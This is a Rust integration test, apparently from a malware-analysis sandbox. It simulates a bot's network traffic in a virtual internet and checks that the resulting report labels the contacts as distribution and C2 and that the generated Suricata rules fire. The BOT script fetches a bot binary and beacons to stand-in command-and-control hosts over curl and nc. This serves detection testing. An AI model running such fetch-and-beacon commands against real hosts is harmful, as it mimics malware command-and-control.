//! From the record of a run to a report: destinations with their roles, and rules that
//! Suricata takes and that fire on the packets of the same run.

use super::client;
use crate::support::internet::VirtualInternet;
use crate::support::network::in_own_world;
use std::collections::BTreeSet;
use std::process::Command;
use ukai_behaviour::{RuleSet, RunSettings, Seen, report};
use ukai_model::{Behaviour, Class, Ended, Event, Sha256};

/// What a bot does on the network, by ordinary clients.
const BOT: &str = "
    curl -sS -m 20 -A Wget/1.1 http://load.example.net/bins/bot.mips >/dev/null
    start=$(date +%s%3N)
    for n in 1 2 3 4 5 6; do
        curl -sS -m 20 -A 'agent; 1' -d id=7 'http://c2.example.net/gate.php?n=1' >/dev/null
        printf '\\001\\002BOT\";1' | timeout 2 nc -w 1 198.51.100.9 48101 >/dev/null
        wait_for $((start + n * 2000))
    done
    true";

/// A bot's clock does not run late on a busy machine: waits until a time in milliseconds.
const WAIT_FOR: &str = "
    wait_for() {
        left=$(($1 - $(date +%s%3N)))
        [ $left -le 0 ] || sleep $((left / 1000)).$(printf %03d $((left % 1000)))
    }
";

#[test]
fn a_run_becomes_a_report_and_its_rules_fire_in_suricata() {
    in_own_world("internet::behaviour::a_run_becomes_a_report_and_its_rules_fire_in_suricata");
    let mut internet = VirtualInternet::start("");
    let ca = internet.ca();
    client(&internet, &[WAIT_FOR, BOT].concat());
    client(
        &internet,
        &format!(
            "{WAIT_FOR}
             start=$(date +%s%3N)
             for n in 1 2 3 4 5 6; do
                 curl -sS -m 20 --cacert {ca} -d id=7 https://tls.example.net/g >/dev/null
                 wait_for $((start + n * 1000))
             done"
        ),
    );
    internet.end();

    let text = std::fs::read_to_string(internet.record().join("events.ndjson")).expect("events");
    let events: Vec<Event> =
        text.lines().map(|line| serde_json::from_str(line).expect("an event")).collect();
    let seen = Seen {
        settings: RunSettings::default(),
        started: events.first().expect("an event").time,
        duration_ms: 20_000,
        ended: Ended::TimeUsed,
        reason: None,
        notices: Vec::new(),
        events,
        guest: vec![[192, 168, 178, 23].into()],
    };
    let report = report(&Sha256::of(b"bot"), &[seen], RuleSet::built_in());
    assert_eq!(class_of(&report, "load.example.net", 80), Class::Distribution);
    assert_eq!(class_of(&report, "c2.example.net", 80), Class::C2);
    assert_eq!(class_of(&report, "tls.example.net", 443), Class::C2);
    assert_eq!(class_of(&report, "198.51.100.9", 48_101), Class::C2);

    let folder = internet.folder().join("suricata");
    std::fs::create_dir(&folder).expect("a folder");
    let rules = folder.join("ukai.rules");
    let lines: Vec<&str> = report.ids_rules.iter().map(|rule| rule.text.as_str()).collect();
    std::fs::write(&rules, lines.join("\n")).expect("written");
    let suricata = |arguments: &[&str]| {
        let output = Command::new("suricata")
            .args(["-k", "none", "--set", "app-layer.protocols.tls.ja3-fingerprints=no", "-S"])
            .arg(&rules)
            .arg("-l")
            .arg(&folder)
            .args(arguments)
            .output()
            .expect("suricata is installed");
        let told = [output.stdout, output.stderr].concat();
        let told = String::from_utf8_lossy(&told).into_owned();
        assert!(output.status.success(), "{told}\n{}", lines.join("\n"));
        told
    };
    let told = suricata(&["-T"]);
    assert!(!told.contains("rules failed") || told.contains("0 rules failed"), "{told}");
    let packets = internet.record().join("packets");
    suricata(&["-r", packets.to_str().expect("a path")]);
    let alerts = std::fs::read_to_string(folder.join("fast.log")).expect("alerts");
    let silent: BTreeSet<&str> = report
        .ids_rules
        .iter()
        .filter(|rule| !alerts.contains(&format!("[1:{}:1]", rule.sid)))
        .map(|rule| rule.text.as_str())
        .collect();
    assert!(silent.is_empty(), "these did not fire: {silent:#?}\n{alerts}");
    for about in ["looked up", "TLS to", "request to", "first bytes", "198.51.100.9 port"] {
        assert!(report.ids_rules.iter().any(|rule| rule.about.contains(about)), "{about}");
    }
}

fn class_of(report: &Behaviour, host: &str, port: u16) -> Class {
    let found = report.contacts.iter().find(|contact| {
        let address = contact.addresses.first().map(ToString::to_string).unwrap_or_default();
        contact.port == port && (contact.name.to_string() == host || address == host)
    });
    found.unwrap_or_else(|| panic!("{host}:{port} in {:#?}", report.contacts)).class
}
